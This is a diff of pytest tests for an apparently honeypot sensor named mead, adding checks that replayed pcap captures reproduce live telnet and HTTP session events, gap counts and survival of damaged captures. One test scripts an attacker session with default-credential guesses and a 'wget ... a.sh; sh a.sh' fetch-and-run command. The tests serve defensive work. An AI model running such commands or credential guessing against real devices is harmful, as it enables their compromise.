@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import random
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -9,10 +11,14 @@ import pytest
 
 from mead.errors import InputError
 from mead.model.codec import encode_line
+from mead.sensors.desk import CaptureSettings
 from mead.sensors.persona import Persona
 from mead.sensors.replay import replay
 
 CAPTURES = Path(__file__).parents[1] / "captures"
+
+
+LOST_BYTES = 700
 
 
 class Frames:
@@ -39,22 +45,34 @@ class Frames:
         self.time += 1
         self.out += self.time.to_bytes(4, "little") + bytes(4) + len(frame).to_bytes(4, "little") * 2 + frame
 
-    def conversation(self, port: int, *pieces: bytes, source_port: int = 40000, end: bool = True) -> None:
+    def conversation(
+        self, port: int, *pieces: bytes | tuple[bytes], source_port: int = 40000, end: bool = True
+    ) -> None:
+        """A connection; a piece in brackets is the server's, an empty one of the client is lost."""
         client, server = (bytes([198, 51, 100, 7]), source_port), (bytes([192, 0, 2, 1]), port)
         self.packet(client, server, 0x02, 99)
         self.packet(server, client, 0x12, 499)
-        sequence = 100
+        sequence, answered = 100, 500
         for piece in pieces:
-            self.packet(client, server, 0x18, sequence, piece)
-            sequence += len(piece)
+            if isinstance(piece, tuple):
+                self.packet(server, client, 0x18, answered, piece[0])
+                answered += len(piece[0])
+                continue
+            if piece:
+                self.packet(client, server, 0x18, sequence, piece)
+            sequence += len(piece) or LOST_BYTES
         if end:
             self.packet(client, server, 0x11, sequence)
-            self.packet(server, client, 0x11, 500)
+            self.packet(server, client, 0x11, answered)
+
+    def write(self, path: Path) -> Path:
+        path.write_bytes(self.out)
+        return path
 
 
 async def replayed(path: Path, bodies: Any = None) -> tuple[list[Any], Any]:
     events: list[Any] = []
-    counts = await replay(path, "pcap", Persona(b"r" * 32), events.append, bodies=bodies)
+    counts = await replay(path, "pcap", b"r" * 32, events.append, bodies=bodies)
     assert counts.events == len(events)
     return events, counts
 
@@ -102,6 +120,102 @@ async def test_http_is_known_on_any_port_and_uploads_are_bodies(
     (captured,) = of(events, "sample.captured")
     assert bodies[captured.sha256] == elf
     assert of(events, "request.received")[0].target == "/upload"
+
+
+def told(events: list[Any]) -> list[tuple[Any, ...]]:
+    """What the events say, without when, where and under which number."""
+    own = {"time", "sensor", "session", "origin", "stream", "seq", "idx", "offer"}
+    fields = [event.__struct_fields__ for event in events]
+    return [
+        (event.kind, *(getattr(event, name) for name in names if name not in own))
+        for event, names in zip(events, fields, strict=True)
+    ]
+
+
+async def test_a_recorded_session_gives_the_events_that_the_live_one_gave(
+    tmp_path: Path, bench: Any, elf: bytes
+) -> None:
+    """Logins that were refused stay refused, at a port that says nothing, at the times of the packets."""
+    octal = "".join(f"\\{byte:03o}" for byte in elf[:60])
+    typed = [
+        b"admin\r\n", b"wrong\r\n", b"root\r\n", b"alsowrong\r\n", b"root\r\n", b"vizxv\r\n", b"enable\r\n",
+        b"cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\r\n", f"printf '{octal}' > .x\r\n".encode(),
+        b"uptime; date; cat /proc/uptime\r\n", b"exit\r\n",
+    ]  # fmt: skip
+    frames, pieces = Frames(), []
+    at = datetime.fromtimestamp(frames.time + 1, UTC)
+    persona, only_told = Persona(b"r" * 32, None, at), CaptureSettings(fetch_policy="replay")
+    live = bench("telnet", seed=b"r" * 32, live=False, port=7001, persona=persona, settings=only_told)
+    live.clock.set(at)
+    pieces.append((live.open(),))
+    for number, line in enumerate(typed):
+        live.clock.advance(3 if number == 0 else 2)
+        pieces += [line, (live.send(line),)]
+        await live.desk.drain()
+    live.closed = "closed by peer"
+    await live.finish()
+    frames.conversation(7001, *pieces)
+    bodies = bench("telnet").bodies
+    events, _ = await replayed(frames.write(tmp_path / "a.pcap"), bodies)
+    assert [event.success for event in of(events, "login.attempt")] == [False, False, True]
+    assert of(events, "command.input")[0].command == "enable"
+    assert of(events, "sample.captured")[0].size == 60
+    assert told(events)[:-1] == told(live.events)[:-1]
+    left = next(at for at, event in enumerate(events) if getattr(event, "command", "") == "exit")
+    assert [event.time for event in events][1:left] == [event.time for event in live.events][1:left]
+    assert bodies[of(events, "sample.captured")[0].sha256] == elf[:60]
+
+
+async def test_an_event_has_the_time_of_its_own_connection(tmp_path: Path, elf: bytes) -> None:
+    frames = Frames()
+    put = b"PUT /x HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(elf)
+    first = frames.time + 1
+    frames.conversation(80, put + elf)
+    frames.time += 86_400
+    frames.conversation(80, b"GET / HTTP/1.0\r\n\r\n", source_port=40001)
+    events, _ = await replayed(frames.write(tmp_path / "a.pcap"))
+    (captured,) = of(events, "sample.captured")
+    assert 0 < captured.time.timestamp() - first < 10
+    assert of(events, "session.open")[0].time.timestamp() == first
+
+
+async def test_what_the_capture_lacks_is_told_of_the_session(tmp_path: Path) -> None:
+    frames = Frames()
+    frames.conversation(23, b"root\r\n", b"vizxv\r\n", b"", b"id\r\n")
+    events, counts = await replayed(frames.write(tmp_path / "a.pcap"))
+    (lost,) = of(events, "loss.counted")
+    assert counts.gaps_bytes == lost.count == LOST_BYTES
+    assert (lost.unit, lost.src_port, lost.session) == ("bytes", 40000, events[0].session)
+
+
+async def test_of_what_nobody_speaks_a_bounded_part_is_kept_and_that_said(tmp_path: Path) -> None:
+    frames = Frames()
+    frames.conversation(4444, *[b"\x00mystery" * 1000] * 12)
+    events, _ = await replayed(frames.write(tmp_path / "a.pcap"))
+    assert of(events, "payload.received")[0].size == 1 << 16
+    (reached,) = of(events, "limit.reached")
+    assert (reached.limit, reached.limit_value) == ("max_unknown_bytes", 1 << 16)
+
+
+async def test_any_damage_to_a_capture_is_survived(tmp_path: Path) -> None:
+    frames = Frames()
+    frames.conversation(
+        23, (b"\xff\xfd\x01login: ",), b"root\r\n", (b"Password: ",), b"x\r\n", (b"# ",), b"id\r\n"
+    )
+    frames.conversation(80, b"POST / HTTP/1.0\r\nContent-Length: 3\r\n\r\nabc", (b"HTTP/1.0 200 OK\r\n\r\n",))
+    dice = random.Random(20030331)
+    for number in range(150):
+        damaged = bytearray(frames.out)
+        for _ in range(dice.randrange(1, 5)):
+            place = dice.randrange(24, len(damaged))
+            if dice.random() < 0.2:
+                del damaged[place : place + dice.randrange(80)]
+            else:
+                damaged[place] ^= 1 << dice.randrange(8)
+        path = tmp_path / f"{number}.pcap"
+        path.write_bytes(damaged)
+        events, counts = await replayed(path)
+        assert len(of(events, "session.open")) == len(of(events, "session.close")) == counts.sessions
 
 
 async def test_a_second_replay_gives_the_same_events(tmp_path: Path) -> None:
